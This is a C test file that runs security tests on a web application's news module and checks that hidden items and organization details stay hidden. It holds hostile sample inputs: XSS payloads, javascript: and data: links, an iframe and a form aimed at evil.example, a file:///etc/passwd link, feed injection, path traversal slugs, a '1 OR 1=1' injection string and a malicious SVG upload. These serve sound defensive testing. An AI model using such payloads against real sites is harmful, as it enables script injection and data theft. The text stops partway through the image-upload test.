/*
 * news_attack_test.c -- an attack round on news and the site's pages
 * (src/app/news), through a real server.
 *
 * Played as a visitor, an applicant, a member, the admin of an
 * organization, a member whose organization was suspended, a disabled
 * account, a focal point, staff and an admin: drafts and members' items
 * are found through no route (list, item, image, feed, home page, JSON,
 * counts) and a hidden item answers exactly as one that does not exist; a
 * story names no organization that is pending, rejected or suspended and
 * shows nothing of one but its name; hostile Markdown, titles and
 * summaries come out inert in pages, JSON and the Atom feed (which stays
 * well-formed); slugs are what they claim to be (no case, unicode, dots,
 * ids, length tricks); an image is an image by its bytes and is served
 * inert; hostile site pages are escaped and their history is staff's;
 * nobody but staff writes, through the API or the forms, and never
 * without the CSRF token; methods do not mix; every size has its limit.
 *
 * Each test prefixes its titles and slugs with "na-" or "NA " so that
 * nothing here collides with news_test.c.  The database is
 * $WHATSON_TEST_DB (tests/http/run.t runs this once on SQLite and once on
 * PostgreSQL).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "lib/news.h"
#include "lib/people.h"
#include "lib/sqldirect.h"
#include "lib/testsrv.h"

#define PW "harbour lantern quiet seventy"
#define BASE "https://na-hub.example"

static struct ts_sink sink;
static struct ts_server srv;
static const char *db_url;
static struct ts_browser *api_b;	/* no cookies: token calls */
static struct ts_browser *visitor;

static struct tn_person staff_p = { "na.staff@na-news.test", "Nadia Staffwriter", "staff", "",
	NULL, 0, NULL };
static struct tn_person admin_p = { "na.admin@na-news.test", "Nils Admin", "admin", "", NULL, 0,
	NULL };
static struct tn_person member_p = { "na.member@na-news.test", "Noor Member", "member", "", NULL,
	0, NULL };
static struct tn_person focal_p = { "na.focal@na-news.test", "Nora Focal", "focal", "", NULL, 0,
	NULL };
static struct tn_person applicant_p = { "na.applicant@na-news.test", "Ned Applicant", "applicant",
	"", NULL, 0, NULL };
/* the admin of an organization, and a member of one staff will suspend */
static struct tn_person orgadmin_p = { "na.orgadmin@na-news.test", "Nell Orgadmin", "member", "",
	NULL, 0, NULL };
static struct tn_person suspended_p = { "na.suspended@na-news.test", "Nick Suspended", "member",
	"", NULL, 0, NULL };
static char orgadmin_org[24], suspended_org[24];

/* ---- helpers --------------------------------------------------------- */

/* The total of the JSON list at path as p sees it. */
static int64_t
total_for(struct tn_person *p, const char *path)
{
	const struct ts_res *r = tn_as(p, "GET", path, NULL);
	json_t *j;
	int64_t n;

	STATUS(r, 200);
	j = ts_jbody(r);
	n = json_integer_value(json_object_get(j, "total"));
	json_decref(j);
	return n;
}

/* An organization imported as approved; its id. */
static int64_t
org_made(const char *name, const char *email)
{
	char desc[256];
	int64_t id;

	snprintf(desc, sizeof desc, "Secret-description-of-%s", name);
	id = ts_org_import(db_url, name, "GH", email, desc);
	assert_true(id > 0);
	return id;
}

/* Runs python3's XML parser on body: 0 when it is well-formed XML whose
 * root is an Atom feed and whose entries' titles and summaries hold no
 * element. */
static int
atom_valid(const char *body)
{
	char file[] = "/tmp/na-atom-XXXXXX", cmd[1024];
	FILE *f;
	int fd = mkstemp(file), rc;

	if (fd < 0 || !(f = fdopen(fd, "w")))
		return -1;
	fputs(body, f);
	fclose(f);
	snprintf(cmd, sizeof cmd, "python3 -c '\n"
	    "import sys, xml.etree.ElementTree as E\n"
	    "A = \"{http://www.w3.org/2005/Atom}\"\n"
	    "f = E.parse(sys.argv[1]).getroot()\n"
	    "assert f.tag == A + \"feed\"\n"
	    "for e in f.findall(A + \"entry\"):\n"
	    "  for n in (\"title\", \"summary\"):\n"
	    "    for x in e.findall(A + n): assert len(list(x)) == 0, n\n"
	    "  assert len(e.findall(A + \"title\")) == 1\n"
	    "' %s", file);
	rc = system(cmd);
	unlink(file);
	return rc;
}

/* GET path as p answers 404 with the very problem a slug that never
 * existed gets (its instance aside). */
static void
same_404(struct tn_person *p, const char *path)
{
	const struct ts_res *r = tn_as(p, "GET", "/api/v1/news/na-no-such-item", NULL);
	json_t *a, *b;

	STATUS(r, 404);
	a = ts_jbody(r);
	r = tn_as(p, "GET", path, NULL);
	STATUS(r, 404);
	b = ts_jbody(r);
	json_object_del(a, "instance");
	json_object_del(b, "instance");
	json_object_del(a, "request_id");
	json_object_del(b, "request_id");
	if (!json_equal(a, b))
		printf("# %s differs from a missing item: %s\n", path, r->body);
	assert_true(json_equal(a, b));
	json_decref(a);
	json_decref(b);
}

/* The people who read: each with the level they read at. */
static struct tn_person *const nonstaff[] = { &member_p, &focal_p, &applicant_p, &orgadmin_p };

/* ---- drafts and members' items ------------------------------------------- */

/* A draft (of each kind, with an image) and a members' item are found
 * through no route by those who may not read them, not even by a count;
 * a hidden item answers as one that does not exist. */
static void
test_hidden_everywhere(void **state)
{
	static const unsigned char png[] = {
		0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48,
		0x44, 0x52, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00,
		0x00, 0x1f, 0x15, 0xc4, 0x89, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x44, 0x41, 0x54, 0x78,
		0x9c, 0x63, 0x00, 0x01, 0x00, 0x00, 0x05, 0x00, 0x01, 0x0d, 0x0a, 0x2d, 0xb4, 0x00,
		0x00, 0x00, 0x00, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82 };
	struct ts_part parts[7] = {
		{ "title", "NA Draft highlight zebra", 0, NULL, NULL },
		{ "kind", "highlight", 0, NULL, NULL },
		{ "visibility", "public", 0, NULL, NULL },
		{ "slug", "na-draft-highlight", 0, NULL, NULL },
		{ "summary", "NA draft summary zebra", 0, NULL, NULL },
		{ "image", (const char *)png, sizeof png, "a.png", "image/png" },
		{ "image_alt", "NA draft alt zebra", 0, NULL, NULL },
	};
	const char *lists[] = { "/api/v1/news", "/api/v1/news?kind=highlight",
		"/api/v1/news?kind=news", "/api/v1/news?theme=corruption", "/api/v1/news?per_page=100",
		"/api/v1/news?kind=highlight&theme=corruption", NULL };
	const char *pages[] = { "/news", "/news?kind=highlight", "/news?theme=corruption", "/",
		"/news.atom", NULL };
	int64_t before_v, before_a, before_m, before_f;
	const struct ts_res *r;
	char mslug[100], path[200];
	size_t i, k;

	(void)state;
	before_v = total_for(NULL, "/api/v1/news");
	before_a = total_for(&applicant_p, "/api/v1/news");
	before_m = total_for(&member_p, "/api/v1/news");
	before_f = total_for(&focal_p, "/api/v1/news");
	r = ts_multipart_api(api_b, "POST", "/api/v1/news", tn_token(&staff_p), parts, 7);
	STATUS(r, 201);
	(void)tn_item_made(&staff_p, json_pack("{s:s,s:s,s:s,s:s,s:[s]}", "title",
	    "NA Draft story zebra",
	    "kind", "story", "visibility", "members", "slug", "na-draft-story", "themes",
	    "corruption"), NULL, 0);
	(void)tn_item_made(&staff_p, json_pack("{s:s,s:s,s:s,s:s,s:b,s:[s]}", "title",
	    "NA Members highlight okapi", "kind", "highlight", "visibility", "members", "summary",
	    "NA members summary okapi", "publish", 1, "themes", "corruption"), mslug, sizeof mslug);
	/* the counts of those who may not read them do not move */
	assert_int_equal(total_for(NULL, "/api/v1/news"), before_v);
	assert_int_equal(total_for(&applicant_p, "/api/v1/news"), before_a);
	assert_int_equal(total_for(&member_p, "/api/v1/news"), before_m + 1);
	assert_int_equal(total_for(&focal_p, "/api/v1/news"), before_f + 1);
	/* drafts: no list, page, feed or home shows them to anyone but staff */
	for (i = 0; i < sizeof nonstaff / sizeof nonstaff[0]; i++) {
		for (k = 0; lists[k]; k++) {
			r = tn_as(nonstaff[i], "GET", lists[k], NULL);
			STATUS(r, 200);
			LACKS(r, "zebra");
			LACKS(r, "na-draft");
		}
		for (k = 0; pages[k]; k++) {
			r = ts_get(tn_web(nonstaff[i]), pages[k]);
			STATUS(r, 200);
			LACKS(r, "zebra");
			LACKS(r, "na-draft");
		}
		tn_problem(tn_as(nonstaff[i], "GET", "/api/v1/news/na-draft-highlight", NULL), 404,
		    NULL);
		tn_problem(tn_as(nonstaff[i], "GET", "/api/v1/news/na-draft-story", NULL), 404,
		    NULL);
		STATUS(ts_get(tn_web(nonstaff[i]), "/news/na-draft-highlight"), 404);
		STATUS(ts_get(tn_web(nonstaff[i]), "/news/na-draft-highlight/image"), 404);
		STATUS(ts_get(tn_web(nonstaff[i]), "/news/na-draft-story"), 404);
	}
	for (k = 0; lists[k]; k++) {
		r = tn_as(NULL, "GET", lists[k], NULL);
		STATUS(r, 200);
		LACKS(r, "zebra");
		LACKS(r, "okapi");
	}
	for (k = 0; pages[k]; k++) {
		r = ts_get(visitor, pages[k]);
		STATUS(r, 200);
		LACKS(r, "zebra");
		LACKS(r, "okapi");
	}
	STATUS(ts_get(visitor, "/news/na-draft-highlight/image"), 404);
	r = tn_as(NULL, "GET", "/api/v1/", NULL);	/* the home page's JSON */
	STATUS(r, 200);
	LACKS(r, "okapi");
	LACKS(r, "zebra");
	r = tn_as(&applicant_p, "GET", "/api/v1/", NULL);
	LACKS(r, "okapi");
	r = tn_as(&member_p, "GET", "/api/v1/", NULL);
	LACKS(r, "zebra");
	/* the members' item: members and focal points, on the home page too */
	r = ts_get(tn_web(&member_p), "/");
	HAS(r, "okapi");
	r = ts_get(tn_web(&focal_p), "/");
	HAS(r, "okapi");
	r = ts_get(tn_web(&applicant_p), "/");
	LACKS(r, "okapi");
	/* never in the feed, whoever asks */
	r = ts_get(tn_web(&staff_p), "/news.atom");
	LACKS(r, "okapi");
	LACKS(r, "zebra");
	/* staff and admins see the draft, with its image */
	STATUS(ts_get(tn_web(&staff_p), "/news/na-draft-highlight/image"), 200);
	STATUS(tn_as(&admin_p, "GET", "/api/v1/news/na-draft-highlight", NULL), 200);
	STATUS(ts_get(tn_web(&admin_p), "/news/na-draft-story"), 200);
	/* a hidden item answers as one that never was: the same problem */
	same_404(NULL, "/api/v1/news/na-draft-highlight");
	snprintf(path, sizeof path, "/api/v1/news/%s", mslug);
	same_404(NULL, path);
	same_404(&applicant_p, path);
	snprintf(path, sizeof path, "/news/%s", mslug);
	r = ts_get(visitor, path);
	STATUS(r, 404);
	LACKS(r, "okapi");
	snprintf(path, sizeof path, "/news/%s/image", mslug);
	STATUS(ts_get(visitor, path), 404);
}

/* A member reads members' items while their organization is approved, and
 * no longer from the request after staff suspend it (nor through the home
 * page or the list); reinstated, they read them again.  A disabled
 * account's token and session read as a visitor's, or not at all. */
static void
test_suspended_and_disabled(void **state)
{
	char slug[100], path[200], page[200];
	const struct ts_res *r;
	int64_t org = strtoll(suspended_org, NULL, 10);

	(void)state;
	(void)tn_item_made(&staff_p, json_pack("{s:s,s:s,s:s,s:s,s:b}", "title",
	    "NA For members gazelle",
	    "kind", "highlight", "visibility", "members", "slug", "na-members-gazelle", "publish",
	    1), slug, sizeof slug);
	snprintf(path, sizeof path, "/api/v1/news/%s", slug);
	snprintf(page, sizeof page, "/news/%s", slug);
	STATUS(tn_as(&suspended_p, "GET", path, NULL), 200);
	r = ts_get(tn_web(&suspended_p), "/");
	HAS(r, "gazelle");
	snprintf(path, sizeof path, "/organizations/%lld/status", (long long)org);
	STATUS(ts_form(tn_web(&staff_p), path, "status", "suspended", (char *)NULL), 303);
	snprintf(path, sizeof path, "/api/v1/news/%s", slug);
	tn_problem(tn_as(&suspended_p, "GET", path, NULL), 404, NULL);
	STATUS(ts_get(tn_web(&suspended_p), page), 404);
	r = ts_get(tn_web(&suspended_p), "/");
	LACKS(r, "gazelle");
	r = tn_as(&suspended_p, "GET", "/api/v1/news?kind=highlight", NULL);
	STATUS(r, 200);
	LACKS(r, "gazelle");
	r = ts_get(tn_web(&suspended_p), "/news");
	LACKS(r, "gazelle");
	STATUS(ts_get(tn_web(&suspended_p), "/staff/news"), 403);
	/* reinstated */
	snprintf(path, sizeof path, "/organizations/%lld/status", (long long)org);
	STATUS(ts_form(tn_web(&staff_p), path, "status", "approved", (char *)NULL), 303);
	snprintf(path, sizeof path, "/api/v1/news/%s", slug);
	STATUS(tn_as(&suspended_p, "GET", path, NULL), 200);
	/* one who leaves their only organization reads it no more */
	{
		static struct tn_person goer = { "na.goer@na-news.test", "Nat Goer", "member", "",
			NULL, 0, NULL };
		char lp[120];

		goer.org = orgadmin_org;
		STATUS(tn_as(&goer, "GET", path, NULL), 200);
		snprintf(lp, sizeof lp, "/api/v1/organizations/%s/leave", orgadmin_org);
		r = tn_as(&goer, "POST", lp, NULL);
		if (r->status != 200)
			printf("# leave: %ld %s\n", r->status, r->body);
		STATUS(r, 200);
		r = tn_as(&goer, "GET", path, NULL);
		if (r->status != 404)
			printf("# after leaving: %ld\n", r->status);
		tn_problem(r, 404, NULL);
	}
	/* the organization's admin reads it; disabled, they do not */
	STATUS(tn_as(&orgadmin_p, "GET", path, NULL), 200);
	STATUS(ts_get(tn_web(&orgadmin_p), page), 200);
	snprintf(page, sizeof page, "/admin/users/%lld/status", (long long)orgadmin_p.id);
	STATUS(tn_as(&admin_p, "POST", page, json_pack("{s:s}", "status", "disabled")), 303);
	r = tn_as(&orgadmin_p, "GET", path, NULL);
	assert_true(r->status == 401 || r->status == 404);
	LACKS(r, "NA For members");
	snprintf(page, sizeof page, "/news/%s", slug);
	r = ts_get(tn_web(&orgadmin_p), page);
	assert_true(r->status == 404 || r->status == 303 || r->status == 401);
	LACKS(r, "NA For members");
	snprintf(page, sizeof page, "/admin/users/%lld/status", (long long)orgadmin_p.id);
	STATUS(tn_as(&admin_p, "POST", page, json_pack("{s:s}", "status", "active")), 303);
	orgadmin_p.token[0] = '\0';
	ts_browser_free(orgadmin_p.web);
	orgadmin_p.web = NULL;
}

/* A story names no organization that is pending, rejected or suspended, to
 * anyone, in its page, its JSON, the lists or the feed; of an approved one
 * it shows the name and link alone, never a field the organization keeps
 * for members, non-governmental readers or staff. */
static void
test_story_organizations(void **state)
{
	int64_t ok = org_made("NA Approved Harbour", "c@na-approved.example");
	int64_t pend = org_made("NA Pending Quokka", "c@na-pending.example");
	int64_t rej = org_made("NA Rejected Quokka", "c@na-rejected.example");
	int64_t sus = org_made("NA Suspended Quokka", "c@na-suspended.example");
	struct tn_person *readers[] = { NULL, &member_p, &focal_p, &applicant_p, &orgadmin_p };
	char slug[100], path[200], page[200];
	const struct ts_res *r;
	json_t *j, *o;
	size_t i;

	(void)state;
	(void)ts_sql_int("UPDATE organizations SET status = 'pending' WHERE id = %lld",
	    (long long)pend);
	(void)ts_sql_int("UPDATE organizations SET status = 'rejected' WHERE id = %lld",
	    (long long)rej);
	snprintf(path, sizeof path, "/organizations/%lld/status", (long long)sus);
	STATUS(ts_form(tn_web(&staff_p), path, "status", "suspended", (char *)NULL), 303);
	(void)tn_item_made(&staff_p, json_pack("{s:s,s:s,s:s,s:s,s:b,s:[I,I,I,I]}", "title",
	    "NA Four groups", "kind", "story", "visibility", "public", "summary",
	    "NA four groups summary", "publish", 1, "organizations", (json_int_t)ok,
	    (json_int_t)pend, (json_int_t)rej, (json_int_t)sus), slug, sizeof slug);
	snprintf(path, sizeof path, "/api/v1/news/%s", slug);
	snprintf(page, sizeof page, "/news/%s", slug);
	for (i = 0; i < sizeof readers / sizeof readers[0]; i++) {
		r = tn_as(readers[i], "GET", path, NULL);
		STATUS(r, 200);
		LACKS(r, "Quokka");
		LACKS(r, "Secret-description");
		LACKS(r, "na-approved.example");
		j = ts_jbody(r);
		assert_int_equal(json_array_size(json_object_get(j, "organizations")), 1);
		o = json_array_get(json_object_get(j, "organizations"), 0);
		assert_int_equal(json_integer_value(json_object_get(o, "id")), ok);
		assert_int_equal(json_object_size(o), 3);	/* id, name, url */
		json_decref(j);
		r = readers[i] ? ts_get(tn_web(readers[i]), page) : ts_get(visitor, page);
		STATUS(r, 200);
		HAS(r, "NA Approved Harbour");
		LACKS(r, "Quokka");
		LACKS(r, "Secret-description");
		LACKS(r, "na-approved.example");
		r = tn_as(readers[i], "GET", "/api/v1/news?kind=story", NULL);
		LACKS(r, "Quokka");
	}
	/* staff too see only those the story may name now */
	r = tn_as(&staff_p, "GET", path, NULL);
	LACKS(r, "Quokka");
	r = ts_get(visitor, "/news.atom");
	LACKS(r, "Quokka");
	LACKS(r, "Harbour");
	/* a story may not name more than its limit, nor organizations by name */
	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s}", "title",
	    "NA Named by name", "kind", "story", "visibility", "public", "organizations",
	    "NA Approved Harbour")), 422, "organizations");
	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s}", "title",
	    "NA Named by sql", "kind", "story", "visibility", "public", "organizations",
	    "1 OR 1=1")), 422, "organizations");
	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s}", "title",
	    "NA Too many", "kind", "story", "visibility", "public", "organizations",
	    "1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20,21")), 422, "organizations");
	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:{s:i}}",
	    "title",
	    "NA Named by object", "kind", "story", "visibility", "public", "organizations", "id",
	    1)), 422, "organizations");
}

/* Markdown, titles and summaries written to attack come out inert: no
 * markup of the writer's, no script link, no data: or vbscript: URL, in
 * the page and in the JSON's body_html. */
static void
test_hostile_markdown(void **state)
{
	static const char *const body =
	    "<script>alert('s1')</script>\n\n"
	    "<img src=x onerror=alert('s2')>\n\n"
	    "<svg onload=alert('s3')></svg>\n\n"
	    "<iframe src=\"https://evil.example/\"></iframe>\n\n"
	    "<a href=\"javascript:alert('s4')\">raw link</a>\n\n"
	    "[a](javascript:alert('s5')) [b](JaVaScRiPt:alert('s6')) "
	    "[c](javascript&#58;alert('s7')) [d](data:text/html;base64,PHNjcmlwdD4=) "
	    "[e](vbscript:msgbox) [f](  javascript:alert('s8')) [g](file:///etc/passwd)\n\n"
	    "<javascript:alert('s9')>\n\n"
	    "![i](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) "
	    "![j](javascript:alert('s10'))\n\n"
	    "[ref][r]\n\n[r]: javascript:alert('s11')\n\n"
	    "<style>body{display:none}</style>\n\n"
	    "<form action=\"https://evil.example/\"><input name=csrf></form>\n\n"
	    "[ok](https://example.org/ok) [rel](/about)\n";
	/* markup of the writer's, or a URL of a scheme other than http(s) and
	 * mailto (their words may stay, as text) */
	const char *bad[] = { "<script", "<iframe", "<style", "<form", "<input", "<svg", "<img src=x",
		"<img src=\"x\"", "href=\"javascript", "href=\"JaVaScRiPt", "href=\"data:",
		"href=\"vbscript:", "href=\"file:", "src=\"data:", "src=\"javascript", "href=\" ",
		NULL };
	char slug[100], path[200], page[200];
	const struct ts_res *r;
	int64_t id;
	json_t *j;
	size_t k;

	(void)state;
	(void)tn_item_made(&staff_p, json_pack("{s:s,s:s,s:s,s:s,s:s,s:b}", "title",
	    "NA <script>alert('t')</script> \"quoted\" & <b>bold</b>", "kind", "news", "summary",
	    "NA <img src=x onerror=alert('sum')> summary", "body", body, "visibility", "public",
	    "publish", 1), slug, sizeof slug);
	snprintf(path, sizeof path, "/api/v1/news/%s", slug);
	snprintf(page, sizeof page, "/news/%s", slug);
	r = tn_as(NULL, "GET", path, NULL);
	STATUS(r, 200);
	j = ts_jbody(r);
	for (k = 0; bad[k]; k++) {
		if (strstr(tn_jstr(j, "body_html"), bad[k]))
			printf("# body_html has %s: %s\n", bad[k], tn_jstr(j, "body_html"));
		assert_null(strstr(tn_jstr(j, "body_html"), bad[k]));
	}
	assert_non_null(strstr(tn_jstr(j, "body_html"), "href=\"https://example.org/ok\""));
	assert_non_null(strstr(tn_jstr(j, "body_html"), "href=\"/about\""));
	/* the title is text as typed, to be escaped where shown */
	assert_string_equal(tn_jstr(j, "title"),
	    "NA <script>alert('t')</script> \"quoted\" & <b>bold</b>");
	json_decref(j);
	r = ts_get(visitor, page);
	STATUS(r, 200);
	LACKS(r, "<script>alert");
	LACKS(r, "<b>bold</b>");
	LACKS(r, "<img src=x");
	LACKS(r, "href=\"javascript:");
	LACKS(r, "<iframe");
	LACKS(r, "<svg");
	r = ts_get(visitor, "/news");
	LACKS(r, "<script>alert");
	LACKS(r, "<img src=x");
	r = ts_get(visitor, "/");
	LACKS(r, "<script>alert");
	LACKS(r, "<img src=x");
	/* staff's own pages show it as text too: the list, and the form, whose
	 * textarea a body cannot close */
	id = tn_item_made(&staff_p, json_pack("{s:s,s:s,s:s,s:s,s:s,s:s}", "title",
	    "NA </title><script>alert('st')</script>", "kind", "news", "summary",
	    "NA </textarea><script>alert('ss')</script>", "body",
	    "NA </textarea><script>alert('sb')</script>", "visibility", "public",
	    "image_alt", "NA \"><script>alert('alt')</script>"), NULL, 0);
	r = ts_get(tn_web(&staff_p), "/staff/news?status=draft");
	STATUS(r, 200);
	LACKS(r, "<script>alert");
	snprintf(path, sizeof path, "/staff/news/%lld", (long long)id);
	r = ts_get(tn_web(&staff_p), path);
	STATUS(r, 200);
	LACKS(r, "<script>alert");
	LACKS(r, "</textarea><script>");
	/* a refused form shows what was typed, as text */
	r = ts_form(tn_web(&staff_p), "/staff/news/new", "title",
	    "NA \"><script>alert('f')</script>",
	    "kind", "bogus", "visibility", "public", "organizations",
	    "\"><script>alert('o')</script>", "slug", "\"><svg onload=alert(1)>", (char *)NULL);
	STATUS(r, 422);
	LACKS(r, "<script>alert");
	LACKS(r, "<svg onload");
}

/* Titles, summaries and an author's name written to break the Atom feed
 * (markup, a CDATA end, entities, characters XML forbids) leave it
 * well-formed, their text inert; control characters are refused. */
static void
test_feed_hostile(void **state)
{
	const struct ts_res *r;

	(void)state;
	(void)tn_item_made(&staff_p, json_pack("{s:s,s:s,s:s,s:s,s:b}", "title",
	    "NA ]]></title><entry><title>injected</title></entry><![CDATA[ &amp; &bogus; <x>",
	    "kind", "news", "summary", "NA </summary><script>alert(1)</script> ]]> &#0; & <",
	    "visibility", "public", "publish", 1), NULL, 0);
	/* U+FFFE and U+FFFF are UTF-8 but no XML character */
	(void)tn_item_made(&staff_p, json_pack("{s:s,s:s,s:s,s:s,s:b}", "title",
	    "NA non-characters \xef\xbf\xbe and \xef\xbf\xbf here", "kind", "news", "summary",
	    "NA \xef\xbf\xbf", "visibility", "public", "publish", 1), NULL, 0);
	r = ts_get(visitor, "/news.atom");
	STATUS(r, 200);
	LACKS(r, "<entry><title>injected");
	LACKS(r, "<script>");
	LACKS(r, "<![CDATA[");
	if (atom_valid(r->body) != 0)
		printf("# the feed is not well-formed XML:\n%s\n", r->body);
	assert_int_equal(atom_valid(r->body), 0);
	/* control characters XML cannot carry are refused at the door */
	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s}", "title",
	    "NA bell \x07 title", "kind", "news", "visibility", "public")), 422, "title");
	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s}", "title",
	    "NA escape title", "kind", "news", "visibility", "public", "summary",
	    "NA \x1b[31m red")), 422, "summary");
	r = ts_api(api_b, "POST", "/api/v1/news", tn_token(&staff_p), "{\"title\":\"NA bad utf-8\","
	    "\"kind\":\"news\",\"visibility\":\"public\",\"body\":\"NA \xc3\x28\"}");
	assert_true(r->status == 400 || r->status == 422);
}

/* A slug is what it says: typed ones that are not lower-case ASCII words
 * are refused, reserved-looking words are plain items, a slug never reads
 * as an id, case and encodings find nothing else, and one made from a
 * title with no Latin letter is still a slug. */
static void
test_slug_tricks(void **state)
{
	static const char *const refused[] = { "NA-Upper", "na..dots", "../na-etc", "na/slash",
		"caf\xc3\xa9-na", "123", "9na-digits", "-na-lead", "na-trail-", "na slug",
		"na_underscore", "na%2e%2e", "na.atom", "na\xef\xbc\x8e", NULL };
	char slug[100], path[200], long_slug[90];
	const struct ts_res *r;
	int64_t id;
	json_t *j;
	size_t k;

	(void)state;
	for (k = 0; refused[k]; k++)
		tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s}",
		    "title", "NA slug trick", "kind", "news", "visibility", "public", "slug",
		    refused[k])), 422, "slug");
	memset(long_slug, 'a', 81);
	long_slug[81] = '\0';
	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s}", "title",
	    "NA slug too long", "kind", "news", "visibility", "public", "slug", long_slug)), 422,
	    "slug");
	/* words that look like routes are items like any other */
	id = tn_item_made(&staff_p, json_pack("{s:s,s:s,s:s,s:s,s:b}", "title", "NA The image",
	    "kind",
	    "news", "visibility", "public", "slug", "image", "publish", 1), slug, sizeof slug);
	assert_string_equal(slug, "image");
	r = tn_as(NULL, "GET", "/api/v1/news/image", NULL);
	STATUS(r, 200);
	HAS(r, "NA The image");
	STATUS(ts_get(visitor, "/news/image/image"), 404);	/* it has none */
	(void)tn_item_made(&staff_p, json_pack("{s:s,s:s,s:s,s:s,s:b}", "title", "NA The new one",
	    "kind",
	    "news", "visibility", "public", "slug", "new", "publish", 1), NULL, 0);
	STATUS(ts_get(visitor, "/news/new"), 200);
	STATUS(ts_get(tn_web(&staff_p), "/staff/news/new"), 200);	/* the form still */
	/* an id is no slug: neither the page nor the JSON finds item id by it */
	snprintf(path, sizeof path, "/api/v1/news/%lld", (long long)id);
	tn_problem(tn_as(NULL, "GET", path, NULL), 404, NULL);
	tn_problem(tn_as(&staff_p, "GET", path, NULL), 404, NULL);
	snprintf(path, sizeof path, "/news/%lld", (long long)id);
	STATUS(ts_get(visitor, path), 404);
	/* case, encodings and dots find nothing */
	STATUS(ts_get(visitor, "/news/IMAGE"), 404);
	r = ts_get(visitor, "/news/%69mage");	/* percent-encoded: that item or none */
	assert_true(r->status == 200 || r->status == 404);
	r = ts_get(visitor, "/news/..%2Fstaff%2Fnews");
	assert_true(r->status == 404 || r->status == 400);
	r = ts_get(visitor, "/news/../staff/news");
	assert_true(r->status != 200);
	/* libmicrohttpd decodes %00 and the path ends there: the same item */
	r = ts_get(visitor, "/news/image%00x");
	assert_true(r->status == 404 || r->status == 400 || r->status == 200);
	if (r->status == 200)
		HAS(r, "NA The image");
	/* a PATCH to a refused slug changes nothing */
	snprintf(path, sizeof path, "/api/v1/news/%lld", (long long)id);
	tn_problem(tn_as(&staff_p, "PATCH", path, json_pack("{s:s}", "slug", "../../x")), 422,
	    "slug");
	STATUS(tn_as(NULL, "GET", "/api/v1/news/image", NULL), 200);
	/* a title with no Latin letter or digit still gets a slug */
	r = tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s}", "title",
	    "\xe6\x97\xa5\xe6\x9c\xac\xe3\x81\xae\xe3\x83\x8b\xe3\x83\xa5\xe3\x83\xbc\xe3\x82\xb9",
	    "kind", "news", "visibility", "public"));
	STATUS(r, 201);
	j = ts_jbody(r);
	snprintf(slug, sizeof slug, "%s", tn_jstr(j, "slug"));
	json_decref(j);
	assert_true(strlen(slug) >= 3);
	assert_true(slug[strlen(slug) - 1] != '-');
	assert_null(strstr(slug, "--"));
	snprintf(path, sizeof path, "/api/v1/news/%s", slug);
	STATUS(tn_as(&staff_p, "GET", path, NULL), 200);
}

/* Waits until the stored files are n again: a request's unclaimed uploads
 * go when it has been answered (on_completed), a moment after its answer
 * arrives. */
static void
files_back_to(int64_t n)
{
	int64_t until = ts_now_ms() + 20000;

	while (ts_sql_int("SELECT count(*) FROM files") != n && ts_now_ms() < until)
		usleep(20 * 1000);
	assert_int_equal(ts_sql_int("SELECT count(*) FROM files"), n);
}

/* An image is a PNG, JPEG or WebP by its bytes: SVG, HTML, GIF and an
 * empty file are refused whatever they are called; a polyglot that is a
 * PNG is served as one, inert (nosniff, a sandboxing CSP); the item's
 * fields name no file the form did not send. */
static void
test_image_attacks(void **state)
{
	static const char svg[] = "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" "
	    "onload=\"alert(1)\"><script>alert(2)</script></svg>";
	static const char gif[] = "GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!"
	    "\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;";
	static const unsigned char png_head[] = { 0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a,
		0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00,
		0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1f, 0x15, 0xc4, 0x89 };
	struct ts_part parts[6] = {
		{ "title", "NA Image attack", 0, NULL, NULL },
		{ "kind", "news", 0, NULL, NULL },
		{ "visibility", "public", 0, NULL, NULL },
		{ "publish", "1", 0, NULL, NULL },
		{ "image", svg, 0, "x.png", "image/png" },
		{ "image_alt", "NA a picture", 0, NULL, NULL },
	};
	char poly[512], alt[400], slug[100], path[200];
	const struct ts_res *r;
	int64_t files;
	json_t *j;
	size_t n;

	(void)state;
	files = ts_sql_int("SELECT count(*) FROM files");
	tn_problem(ts_multipart_api(api_b, "POST", "/api/v1/news", tn_token(&staff_p), parts, 6),
	    422,
	    "image");
	/* one who may not write leaves no file behind */
	tn_problem(ts_multipart_api(api_b, "POST", "/api/v1/news", tn_token(&member_p), parts, 6),
	    403,
	    NULL);
	tn_problem(ts_multipart_api(api_b, "POST", "/api/v1/news", NULL, parts, 6), 401, NULL);
	files_back_to(files);
	parts[4].filename = "x.svg";
	parts[4].type = "image/svg+xml";
